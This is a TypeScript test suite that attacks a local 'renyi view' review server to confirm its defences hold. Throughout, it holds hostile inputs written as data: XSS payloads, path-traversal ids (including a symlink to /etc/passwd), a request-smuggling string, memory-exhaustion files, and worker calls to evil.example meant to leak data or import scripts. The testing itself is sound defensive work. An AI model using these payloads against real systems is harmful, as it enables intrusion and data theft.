// Attacks on `renyi view` (spec/security.md, "The review page: `renyi view`"; spec/view.md,
// sections 2, 3, 7 and 9): requests that should not be answered, ids that should not reach a
// file, headers and methods, recordings that should not bring the server down, text that should
// stay text in the browser, and a playground worker that should reach nothing.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { outsideRequests, startView, type Viewing, withBrowser } from "./browser-support.js";
import { ROOT } from "./golden.js";
import { RENYI } from "./support.js";

const recording = readFileSync(join(ROOT, "examples", "fixtures", "weather", "berlin.json"), "utf8");
const HOSTILE = '<script>window.pwned=1</script><img src="http://evil.example/x.png" onerror="window.pwned=2">';

let folder: string;
let outside: string;
let viewing: Viewing;

before(async () => {
  folder = mkdtempSync(join(tmpdir(), "renyi-attack-view-"));
  outside = mkdtempSync(join(tmpdir(), "renyi-attack-outside-"));
  writeFileSync(join(outside, "secret.ry"), "SECRET OUTSIDE\n");
  writeFileSync(join(outside, "secret.json"), recording);
  mkdirSync(join(folder, "root"));
  const root = join(folder, "root");
  writeFileSync(join(root, "main.ry"), `-- ${HOSTILE}\nfunction main() needs console\n  console.print("hi")\nend\n`);
  writeFileSync(join(root, `${"a".repeat(10)}.json`), recording);
  mkdirSync(join(root, ".git"));
  writeFileSync(join(root, ".git", "hidden.ry"), "HIDDEN\n");
  mkdirSync(join(root, "node_modules"));
  writeFileSync(join(root, "node_modules", "dep.ry"), "DEP\n");
  symlinkSync(join(outside, "secret.ry"), join(root, "link.ry"));
  symlinkSync(outside, join(root, "linkdir"));
  symlinkSync("/etc/passwd", join(root, "passwd.ry"));
  symlinkSync(join(root, ".git", "hidden.ry"), join(root, "todot.ry"));
  viewing = await startView(folder, ["root"]);
});

after(async () => {
  await viewing.stop();
  rmSync(folder, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

interface Answer {
  readonly status: number;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly body: string;
}

/** A request with exactly the path and headers given (Host included), as no browser would send it. */
function ask(path: string, headers: Record<string, string> = {}, method = "GET"): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: "127.0.0.1",
        port: viewing.port,
        path,
        method,
        headers: { Host: `127.0.0.1:${viewing.port}`, ...headers },
      },
      (res) => {
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (d: string) => (body += d));
        res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on("error", reject);
    req.end();
  });
}

/** Bytes written on a socket as they are, and what came back until the server closed or `ms` passed. */
function raw(bytes: string, ms = 1500): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(viewing.port, "127.0.0.1");
    let got = "";
    socket.setEncoding("utf8");
    socket.on("data", (d: string) => (got += d));
    socket.on("error", () => resolve(got));
    socket.on("close", () => resolve(got));
    socket.write(bytes);
    setTimeout(() => {
      socket.destroy();
      resolve(got);
    }, ms);
  });
}

const api = (rest: string) => `/${viewing.token}/api/${rest}`;
const text = (id: string) => api(`text?id=${encodeURIComponent(id)}`);

test("requests without the token, with a wrong one or a prefix of it, are refused with 403", async () => {
  const t = viewing.token;
  const wrong = (t[0] === "A" ? "B" : "A") + t.slice(1);
  for (const path of [
    "/",
    "/api/items",
    `/${wrong}/api/items`,
    `/${t.slice(0, -1)}/api/items`,
    `/${t}x/api/items`,
    `/${t.toLowerCase() === t ? t.toUpperCase() : t.toLowerCase()}/api/items`,
    `/%2F${t}/api/items`,
    `//${t}/api/items`,
    `/${encodeURIComponent(t).replace(/[A-Za-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`)}/api/items`,
  ]) {
    const answer = await ask(path);
    assert.equal(answer.status, 403, path);
    assert.match(answer.body, /E-VIEW-FORBIDDEN/);
    assert.doesNotMatch(answer.body, /main\.ry/);
  }
  // The absolute form of a request line names the token after a host: still no path beginning with it.
  const absolute = await raw(
    `GET http://127.0.0.1:${viewing.port}/${t}/api/items HTTP/1.1\r\nHost: 127.0.0.1:${viewing.port}\r\nConnection: close\r\n\r\n`,
  );
  assert.match(absolute, /^HTTP\/1\.1 403/);
});

test("a request without the token is refused with 403 before anything else, whatever its method", async () => {
  for (const method of ["POST", "PUT", "DELETE", "OPTIONS", "PATCH"]) {
    const answer = await ask("/not-the-token/api/items", {}, method);
    assert.equal(answer.status, 403, method);
  }
});

test("methods other than GET and HEAD are refused with 405 even with the token; HEAD sends no body", async () => {
  for (const method of ["POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECT_"]) {
    if (method === "CONNECT_") continue;
    const answer = await ask(api("items"), {}, method);
    assert.equal(answer.status, 405, method);
  }
  // An override header does not turn a GET into anything else, nor a POST into a GET.
  const overridden = await ask(api("items"), { "X-HTTP-Method-Override": "GET" }, "POST");
  assert.equal(overridden.status, 405);
  const head = await ask(api("items"), {}, "HEAD");
  assert.equal(head.status, 200);
  assert.equal(head.body, "");
});

test("a Host other than 127.0.0.1:PORT or localhost:PORT is refused even with the token (DNS rebinding)", async () => {
  const p = viewing.port;
  for (const host of [
    `evil.example:${p}`,
    "evil.example",
    `127.0.0.1`,
    `127.0.0.1:${p + 1}`,
    `127.0.0.1.:${p}`,
    `LOCALHOST:${p}`,
    `localhost.:${p}`,
    `127.0.0.1:${p}.evil.example`,
    `[::1]:${p}`,
    `0.0.0.0:${p}`,
    `2130706433:${p}`,
    `127.1:${p}`,
    `127.0.0.1:0${p}`,
    ` 127.0.0.1:${p}x`,
  ]) {
    const answer = await ask(api("items"), { Host: host });
    assert.equal(answer.status, 403, host);
  }
  // No Host at all (HTTP/1.0), and two Host lines whose first is another site's.
  const none = await raw(`GET ${api("items")} HTTP/1.0\r\n\r\n`);
  assert.doesNotMatch(none, /^HTTP\/1\.[01] 200/);
  const two = await raw(
    `GET ${api("items")} HTTP/1.1\r\nHost: evil.example:${p}\r\nHost: 127.0.0.1:${p}\r\nConnection: close\r\n\r\n`,
  );
  assert.doesNotMatch(two, /^HTTP\/1\.1 200/);
});

test("an Origin not the page's own and a Sec-Fetch-Site other than same-origin or none are refused", async () => {
  const p = viewing.port;
  for (const origin of [
    "http://evil.example",
    "null",
    `http://127.0.0.1:${p + 1}`,
    `https://127.0.0.1:${p}`,
    `http://127.0.0.1:${p}.evil.example`,
    `http://127.0.0.1:${p}/`,
  ]) {
    const answer = await ask(api("items"), { Origin: origin });
    assert.equal(answer.status, 403, origin);
    assert.equal(answer.headers["access-control-allow-origin"], undefined);
  }
  for (const site of ["cross-site", "same-site", "", "SAME-ORIGIN"]) {
    const answer = await ask(api("items"), { "Sec-Fetch-Site": site });
    assert.equal(answer.status, 403, site);
  }
  // No answer ever allows another origin to read it.
  const ok = await ask(api("items"), { Origin: `http://127.0.0.1:${p}` });
  assert.equal(ok.status, 200);
  assert.equal(ok.headers["access-control-allow-origin"], undefined);
});

test("every answer, a refusal too, carries the policy and the headers spec/view.md names", async () => {
  const page =
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; " +
    "worker-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
  for (const path of [
    "/",
    `/${viewing.token}/`,
    api("items"),
    api("nothing"),
    text("0/main.ry"),
    `/${viewing.token}/app.js`,
  ]) {
    const answer = await ask(path);
    assert.equal(answer.headers["content-security-policy"], page, path);
    assert.equal(answer.headers["x-content-type-options"], "nosniff");
    assert.equal(answer.headers["referrer-policy"], "no-referrer");
    assert.equal(answer.headers["cache-control"], "no-store");
    assert.equal(answer.headers["cross-origin-opener-policy"], "same-origin");
    assert.equal(answer.headers["cross-origin-resource-policy"], "same-origin");
  }
  const worker = await ask(`/${viewing.token}/worker.js`);
  assert.equal(
    worker.headers["content-security-policy"],
    "default-src 'none'; script-src 'self' 'unsafe-eval'; connect-src 'none'",
  );
  // The program's text is plain text; the JSON answers escape markup.
  const source = await ask(text("0/main.ry"));
  assert.equal(source.headers["content-type"], "text/plain; charset=utf-8");
  const program = await ask(api(`program?id=${encodeURIComponent("0/main.ry")}`));
  assert.equal(program.status, 200);
  assert.doesNotMatch(program.body, /[<>]/);
  const refused = await ask(api(`program?id=${encodeURIComponent(`0/${HOSTILE}.ry`)}`));
  assert.equal(refused.status, 404);
  assert.doesNotMatch(refused.body, /[<>]/);
  const unknown = await ask(`/${viewing.token}/${encodeURIComponent(HOSTILE)}`);
  assert.doesNotMatch(unknown.body, /[<>]/);
});

test("ids that leave the root, encoded or not, through links or dot folders, are refused with 404", async () => {
  const ids = [
    "0/../secret.ry",
    "0/./main.ry",
    "0//main.ry",
    "0/root/../main.ry",
    `0/${outside}/secret.ry`,
    `0${outside}/secret.ry`,
    "0/link.ry",
    "0/linkdir/secret.ry",
    "0/linkdir/secret.json",
    "0/passwd.ry",
    "0/todot.ry",
    "0/.git/hidden.ry",
    "0/node_modules/dep.ry",
    "0/..\\secret.ry",
    "0/main.ry\u0000.ry",
    "0/%2e%2e/secret.ry",
    "00/main.ry",
    "+0/main.ry",
    "0x0/main.ry",
    "1/main.ry",
    "-0/main.ry",
    "0.0/main.ry",
    "0",
    "0/",
    `0/${"a/".repeat(3000)}x.ry`,
    `0/${"a".repeat(5000)}.ry`,
    "0/main.RY",
    "0/main.ry/",
    "0/main.ry.",
    "0/ｍain.ry",
    "0/main.ry ",
  ];
  for (const id of ids) {
    for (const path of [text(id), api(`program?id=${encodeURIComponent(id)}`)]) {
      const answer = await ask(path);
      assert.equal(answer.status, 404, `${id} ${path.slice(0, 80)}`);
      assert.doesNotMatch(answer.body, /SECRET OUTSIDE|HIDDEN|DEP|root:x:0/);
    }
  }
  // Given twice, the second an escape: refused, not the first or last taken.
  const twice = await ask(api("text?id=0/main.ry&id=0/link.ry"));
  assert.equal(twice.status, 404);
  // The walk lists none of them.
  const items = await ask(api("items"));
  const listed = (JSON.parse(items.body) as { items: { id: string }[] }).items.map((i) => i.id);
  assert.deepEqual(listed.sort(), ["0/aaaaaaaaaa.json", "0/main.ry"]);
});

test("a root given as a file serves that file alone by api/text; its neighbours are not served", async () => {
  const alone = mkdtempSync(join(tmpdir(), "renyi-attack-file-root-"));
  writeFileSync(join(alone, "main.ry"), 'function main() needs console\n  console.print("x")\nend\n');
  writeFileSync(join(alone, "other.ry"), "OTHER\n");
  writeFileSync(join(alone, "other.json"), recording);
  const second = await startView(alone, ["main.ry"]);
  try {
    const get = (id: string) =>
      fetch(`${second.url}api/text?id=${encodeURIComponent(id)}`).then(async (r) => ({
        status: r.status,
        body: await r.text(),
      }));
    assert.equal((await get("0/main.ry")).status, 200);
    for (const id of ["0/other.ry", "0/other.json", "0/../other.ry", "0/main.ry/other.ry", "0/main.ry/../other.ry"])
      assert.equal((await get(id)).status, 404, id);
  } finally {
    await second.stop();
    rmSync(alone, { recursive: true, force: true });
  }
});

test("hard links inside the root are served (spec/security.md: they count as inside the scope that holds them)", async () => {
  const target = join(outside, "hard.ry");
  writeFileSync(target, "HARD\n");
  try {
    linkSync(target, join(folder, "root", "hard.ry"));
  } catch {
    return; // another file system: nothing to say
  }
  const answer = await ask(text("0/hard.ry"));
  assert.equal(answer.status, 200);
});

test("huge headers and a huge address are refused, and the server answers after them", async () => {
  const long = await ask(`${api("items")}?x=${"a".repeat(100_000)}`).catch(() => ({ status: 0 }) as Answer);
  assert.notEqual(long.status, 200);
  const big = await ask(api("items"), { "X-Big": "b".repeat(200_000) }).catch(() => ({ status: 0 }) as Answer);
  assert.notEqual(big.status, 200);
  const many: Record<string, string> = {};
  for (let i = 0; i < 3000; i++) many[`x-h${i}`] = "v";
  const lots = await ask(api("items"), many).catch(() => ({ status: 0 }) as Answer);
  assert.ok(lots.status === 200 || lots.status === 431 || lots.status === 0);
  // Smuggling-shaped: a body on a GET by both Content-Length and Transfer-Encoding.
  const smuggled = await raw(
    `GET ${api("items")} HTTP/1.1\r\nHost: 127.0.0.1:${viewing.port}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST /x HTTP/1.1\r\n\r\n`,
  );
  assert.doesNotMatch(smuggled, /E-VIEW-METHOD/);
  const ok = await ask(api("items"));
  assert.equal(ok.status, 200);
});

test("api/call with hostile indexes is refused with 404, and the server stays up", async () => {
  const id = encodeURIComponent(`0/${"a".repeat(10)}.json`);
  for (const index of [
    "-1",
    "1e3",
    "0x0",
    "01",
    " 0",
    "999999999",
    "9".repeat(400),
    "NaN",
    "constructor",
    "__proto__",
  ]) {
    const answer = await ask(api(`call?id=${id}&index=${encodeURIComponent(index)}`));
    assert.equal(answer.status, 404, index);
  }
  assert.equal((await ask(api(`call?id=${id}&index=0`))).status, 200);
});

test("recordings that take more memory than the reader may use are refused, and the server goes on", async () => {
  // A recording of many tiny values takes about 25 times its file once read: four 4 MiB ones once crashed a server
  // run with a 256 MiB heap. They are read by the reader, a process here limited to 48 MiB, and these are of 8 MiB:
  // the recording reader's bound refuses each unread (E-RT-RECORDING), and a program whose checking takes more than
  // the reader's heap ends the reader and is refused with E-VIEW-MEMORY, the server's own heap untouched, and the next
  // request finds a fresh reader.
  const many = mkdtempSync(join(tmpdir(), "renyi-attack-heap-"));
  const base = JSON.parse(recording) as { calls: { arguments: Record<string, unknown> }[] };
  const call = base.calls[0]!;
  const head = JSON.stringify({ ...base, calls: [] }).replace(/"calls":\[\]\}$/, "");
  const n = Math.floor((8 * 1024 * 1024) / 3);
  const body = JSON.stringify({ ...call, arguments: { ...call.arguments, x: "REPL" } }).replace(
    '"REPL"',
    `[${"{},".repeat(n)}{}]`,
  );
  for (let k = 0; k < 4; k++) writeFileSync(join(many, `r${k}.json`), `${head}"calls":[${body}]}`);
  writeFileSync(join(many, "small.json"), recording);
  writeFileSync(
    join(many, "big.ry"),
    Array.from({ length: 100_000 }, (_, i) => `function f${i}(a: Int) returns Int\n  return a + ${i}\nend\n`).join(
      "\n",
    ),
  );
  const child = spawn(process.execPath, ["--max-old-space-size=256", RENYI, "view", "--port", "0", many], {
    env: { ...process.env, RENYI_CACHE_DIR: join(many, ".renyi-cache"), RENYI_VIEW_READER_MIB: "48" },
  });
  let stderr = "";
  child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
  const exited = new Promise<void>((resolve) => child.on("exit", () => resolve()));
  try {
    const url = await new Promise<string>((resolve, reject) => {
      let out = "";
      child.stdout.on("data", (d: Buffer) => {
        out += d.toString();
        const m = /^(http:\S+\/)\s*$/m.exec(out);
        if (m !== null) resolve(m[1]!);
      });
      void exited.then(() => reject(new Error(stderr)));
    });
    const get = async (path: string) => {
      const answer = await fetch(`${url}${path}`).catch((e: unknown) => ({ status: 0, text: () => String(e) }));
      return { status: answer.status, body: await answer.text() };
    };
    const small = `api/call?id=${encodeURIComponent("0/small.json")}&index=0`;
    // A recording read first, so that the reader that ends next holds it: the request is tried once more, alone.
    assert.equal((await get(small)).status, 200);
    // The recording reader's bound (report/json-heap-bound.ts) refuses each unread: it would not fit the reader's heap.
    for (let k = 0; k < 4; k++) {
      const answer = await get(`api/call?id=${encodeURIComponent(`0/r${k}.json`)}&index=0`);
      assert.equal(answer.status, 422, `recording ${k}: ${stderr.split("\n").find((l) => /FATAL/.test(l)) ?? ""}`);
      const refusal = JSON.parse(answer.body) as { code: string; message: string };
      assert.equal(refusal.code, "E-RT-RECORDING");
      assert.match(refusal.message, /its calls could take about [\d,]+ MiB once read, more than this process may hold/);
    }
    // A program whose checking takes more than the reader's heap ends the reader: refused, the reader started afresh.
    for (const k of [0, 1]) {
      const answer = await get(`api/program?id=${encodeURIComponent("0/big.ry")}`);
      assert.equal(answer.status, 413, `program ${k}: ${answer.body.slice(0, 200)}`);
      const refusal = JSON.parse(answer.body) as { code: string; message: string };
      assert.equal(refusal.code, "E-VIEW-MEMORY");
      assert.equal(refusal.message, "reading 0/big.ry took more memory than the server's reader may use (48 MiB)");
    }
    assert.equal((await get("api/items")).status, 200);
    assert.equal((await get(small)).status, 200);
    assert.equal((await get(`api/recording?id=${encodeURIComponent("0/small.json")}`)).status, 200);
    assert.equal(child.exitCode, null, "the server is still running");
  } finally {
    if (child.exitCode === null) child.kill("SIGKILL");
    await exited;
    rmSync(many, { recursive: true, force: true });
  }
});

test("in the browser: text stays text, the page evaluates nothing, and the worker reaches nothing", async () => {
  await withBrowser(async ({ newPage, requests }) => {
    const page = await newPage();
    // A program's bytes opened directly: plain text, no markup run.
    await page.goto(`${viewing.url}api/text?id=${encodeURIComponent("0/main.ry")}`);
    assert.equal(await page.evaluate(() => document.contentType), "text/plain");
    assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
    assert.equal(await page.evaluate(() => document.querySelectorAll("script,img").length), 0);
    // The page with a fragment that is markup.
    await page.goto(`${viewing.url}#/program/${encodeURIComponent(HOSTILE)}`);
    await page.waitForFunction(() => document.body.dataset.ready === "true");
    await page.goto(`${viewing.url}#/${HOSTILE}`);
    await page.waitForFunction(() => document.body.dataset.ready === "true");
    assert.equal(await page.evaluate(() => document.querySelectorAll("main img, main script").length), 0);
    assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
    // The worker, under its own policy: it may evaluate, but fetch nothing, not even the page's own API, and import
    // no script but its own.
    const workerStarted = page.waitForEvent("worker");
    await page.evaluate(() => {
      (window as unknown as { w: Worker }).w = new Worker("worker.js");
    });
    const worker = await workerStarted;
    const tried = await worker.evaluate(async () => {
      const out: string[] = [];
      for (const url of ["api/items", "http://evil.example/leak", "data:text/plain,x"])
        out.push(
          await fetch(url).then(
            () => `fetched ${url}`,
            () => "refused",
          ),
        );
      try {
        (self as unknown as { importScripts(u: string): void }).importScripts("api/text?id=0%2Fmain.ry");
        out.push("imported");
      } catch {
        out.push("refused");
      }
      try {
        (self as unknown as { importScripts(u: string): void }).importScripts("http://evil.example/x.js");
        out.push("imported elsewhere");
      } catch {
        out.push("refused");
      }
      const ws = await new Promise<string>((resolve) => {
        try {
          const socket = new WebSocket("ws://evil.example/");
          socket.onerror = () => resolve("refused");
          socket.onopen = () => resolve("opened");
        } catch {
          resolve("refused");
        }
      });
      out.push(ws);
      return out;
    });
    assert.deepEqual(tried, ["refused", "refused", "refused", "refused", "refused", "refused"]);
    assert.deepEqual(
      outsideRequests(requests, viewing.url).filter((r) => !r.startsWith("data:")),
      [],
    );
  });
});
